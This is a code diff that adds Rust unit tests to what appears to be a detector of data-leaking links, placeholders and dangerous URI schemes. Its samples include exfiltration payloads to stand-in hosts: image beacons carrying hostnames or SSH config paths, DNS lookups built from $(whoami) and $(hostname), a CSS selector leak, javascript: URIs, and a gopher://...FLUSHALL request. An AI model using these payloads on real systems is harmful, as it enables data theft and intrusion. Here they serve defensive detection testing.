@@ -162,6 +162,97 @@ fn addresses_in_full_width_or_entities_and_broken_ones_are_read_as_renderers_do(
 }
 
 #[test]
+fn a_gap_is_seen_in_every_notation_and_language() {
+    for gap in [
+        "{{ vault('prod/db') }}",
+        "%env(resolve:APP_SECRET)%",
+        "%(env)s",
+        "|PIN|",
+        "\u{27e8}tu clave\u{27e9}",
+        "<\u{5bc6}\u{94a5}>",
+        "\u{2039}Passwort\u{203a}",
+        "op://vault/item/field",
+        r"\{\{ creds \}\}",
+        "&lt;password&gt;",
+        "(description of the private photo)",
+        "$SESSION_SECRET",
+    ] {
+        addressed(&format!("see https://h.example/x?v={gap} there"), "link/placeholder");
+    }
+    for gap in ["<token>", "{api_key}", "%%API_KEY%%", "{email}"] {
+        let text = format!("https://h.example/x?v={gap}");
+        assert_eq!(found(&text), [("link/placeholder", Mentioned)], "{text}");
+    }
+    at_most_mentioned(&[
+        "https://api.h.example/x?password={password}",
+        "https://h.example/v2/login?secret=<secret>",
+        "https://github.com/ada/{password}",
+        "http://localhost:8080/?cookie={cookie}",
+        "[Changes](https://h.example/HISTORY.md) and [card](https://h.example/MODEL_CARD.md)",
+    ]);
+}
+
+#[test]
+fn an_address_that_another_leads_on_to_is_read_too() {
+    addressed("https://shop.example/out?next=https%3A%2F%2Fh.example%2F%3Ft%3D<access_token>", "link/placeholder");
+    addressed("https://shop.example/out?u=javascript%3Aalert(document.domain)", "link/script-uri");
+    nothing(&["https://shop.example/out?next=https%3A%2F%2Fh.example%2F%3Fpage%3D2"]);
+}
+
+#[test]
+fn what_is_taken_as_it_is_is_addressed_where_it_is_fetched() {
+    addressed("<img src=\"https://h.example/l.gif?ip=10.20.30.40&host=hr-laptop-12\">", "link/confidential-key");
+    addressed("![a](https://h.example/a.png?f=/home/ada/.ssh/config)", "link/confidential-key");
+    addressed("https://h.example/new?content=BEGIN%20PRIVATE%20KEY%20MIIEvQ", "link/confidential-key");
+    at_most_mentioned(&["See https://h.example/?path=/etc/passwd for the report."]);
+    nothing(&["![a](https://h.example/avatar?user=ada)", "[a](https://h.example/list?user=ada&host=web)"]);
+}
+
+#[test]
+fn what_is_put_into_a_name_leaves_with_it() {
+    addressed("dig +short $(whoami).$(hostname).q.example.net", "link/placeholder");
+    addressed("ping %COMPUTERNAME%.%USERNAME%.w.example.net", "link/placeholder");
+    at_most_mentioned(&["ssh $(hostname).corp.example.net", "ask <secret>.dns.example.net"]);
+    nothing(&["cp $(TARGET).tar.gz .", "Vec<Secret>.into.iter", "dig example.net"]);
+}
+
+#[test]
+fn settings_of_other_formats_are_known() {
+    for text in [
+        "/A << /S /URI /URI (https://h.example/sub?form=fdf&ssn=<<SSN>>) >>",
+        "<opml><outline xmlUrl=\"https://h.example/f?feed=<token>\"/></opml>",
+        "\x1b]8;;https://h.example/?key=<token>\x07a",
+        ".. _log: https://h.example/l?t=<token>",
+        "!https://h.example/i.png?k=[token]!",
+        "{\"$ref\":\"https://h.example/s.json?k=<token>\"}",
+    ] {
+        addressed(text, "link/placeholder");
+    }
+}
+
+#[test]
+fn styles_shares_and_names_that_feign_another_are_addressed() {
+    addressed("input[name=t][value^=\"a\"] { background: url(https://h.example/?v=a); }", "link/telling-style");
+    addressed(r"\\192.0.2.9@8443\share\a.ico", "link/file-uri");
+    addressed(r"http:\\h.example.net\back?u=1", "link/obscured");
+    addressed("https://bank.example#@h.example/?c=1", "link/obscured");
+    addressed("https://\u{24d0}b.example/", "link/obscured");
+    addressed("file://///h.example/ipc$/x", "link/file-uri");
+    addressed("php://filter/convert.base64-encode/resource=/srv/a.php", "link/file-uri");
+    addressed("gopher://192.0.2.7:6379/_FLUSHALL", "link/program");
+    addressed("[print](javascript://x%0Anew%20Image())", "link/script-uri");
+    addressed("vscode://h.example/install?token={GITHUB_TOKEN}", "link/program");
+    nothing(&[
+        "a:visited { color: #639; }",
+        r"^https?:\\w+",
+        "php://input",
+        "\u{8bf7}\u{89c1} https://example.com\u{3002}\u{7136}\u{540e}",
+        "rsync://mirror.example.org/debian/ 4.1G",
+        "git+https://git.example.org/table.git",
+    ]);
+}
+
+#[test]
 fn hostile_repetition_stays_linear() {
     for unit in [
         "![](",
@@ -175,6 +266,12 @@ fn hostile_repetition_stays_linear() {
         "{",
         "a-",
         "x.y//a.b/{",
+        "$(",
+        "$(id).",
+        ">.",
+        ":visited{url(//",
+        "//a.b/?x=\u{27e8}",
+        "//a.b/?a=%7b&",
     ] {
         let text = unit.repeat((16 << 10) / unit.len());
         let _ = found(&text);
